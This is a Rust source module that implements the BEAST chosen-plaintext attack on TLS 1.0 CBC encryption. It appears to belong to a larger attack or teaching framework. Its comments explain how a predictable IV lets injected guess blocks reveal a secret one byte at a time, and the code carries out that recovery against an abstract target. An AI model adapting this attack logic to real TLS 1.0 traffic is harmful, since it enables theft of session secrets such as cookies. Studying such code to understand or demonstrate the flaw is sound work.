//! BEAST: chosen words under an IV that is known beforehand (Duong and Rizzo, "Here come the XOR ninjas", 2011).
//!
//! In TLS 1.0 the IV of a record is the last block of the record before (RFC 2246 section 6.2.3.2). A script of hers in
//! the client's browser says words in the client's own connection:
//!
//! 1. It lets the secret begin so that one unknown byte of it is the last of a block. What is in front of it is known.
//! 2. For a guess `G` of that block `P`, which followed `C'`, it says `G xor C' xor IV`. The cipher takes in `G xor C'`: if
//!    the block that comes out is that of `P`, the guess was right.
//! 3. It goes on with the next byte, in a new connection.
//!
//! From TLS 1.1 on the IV is drawn behind the words (RFC 4346 section 6.2.3.2): she says the same, and no block is alike.

use super::{
    Outcome,
    blocks::xor,
    guess::guess,
    recording::Recording,
    secret::Secret,
    target::{Connection, Target},
};
use std::ops::ControlFlow;

#[derive(Clone, Debug)]
pub(super) struct Beast {
    secret: Secret,
    trial: Option<Trial>,
}

/// The guesses of one byte.
#[derive(Clone, Debug)]
struct Trial {
    connection: Connection,
    /// The block before the one that is sought.
    before: Vec<u8>,
    /// The block that is sought.
    block: Vec<u8>,
    /// What its plaintext begins with.
    begins: Vec<u8>,
    rank: usize,
}

impl Beast {
    pub fn new(recording: &Recording) -> Option<Self> {
        Some(Self {
            secret: Secret::of(recording)?,
            trial: None,
        })
    }

    pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
        if let ControlFlow::Break(outcome) = self.secret.length(target)? {
            return Some(outcome);
        }
        match self.trial.take() {
            None => self.trial = Some(self.begin(target)?),
            Some(trial) => self.go_on(trial, target)?,
        }
        Some(Outcome::Going)
    }

    /// Lets the client say the secret, its next byte the last of a block.
    fn begin(&self, target: &mut Target) -> Option<Trial> {
        let mut connection = target.connect()?;
        let filler = self.secret.blocks.fill_before(self.secret.known.len());
        let last = connection.last().to_vec();
        let record = target
            .client_says_secret(&mut connection, &filler, &[])
            .pop()?;
        let cut = self.secret.blocks.cut(&record, &last);
        let begins = [filler, self.secret.known.clone()].concat();
        let at = begins.len() / self.secret.blocks.length;
        let whole = at * self.secret.blocks.length;
        Some(Trial {
            connection,
            before: cut.get(at)?.clone(),
            block: cut.get(at + 1)?.clone(),
            begins: begins.get(whole..)?.to_vec(),
            rank: 0,
        })
    }

    /// Lets the client say a guess; `None` when there is none left.
    fn go_on(&mut self, mut trial: Trial, target: &mut Target) -> Option<()> {
        let byte = guess(trial.rank)?;
        trial.rank += 1;
        let plaintext = [trial.begins.as_slice(), &[byte]].concat();
        let last = trial.connection.last().to_vec();
        let iv = self.secret.blocks.last(&last)?;
        let words = xor(&xor(&plaintext, &trial.before), &iv);
        let records = target.client_says(&mut trial.connection, &words);
        let cut = self.secret.blocks.cut(records.first()?, &last);
        match cut.get(1) == Some(&trial.block) {
            true => self.secret.known.push(byte),
            false => self.trial = Some(trial),
        }
        Some(())
    }
}
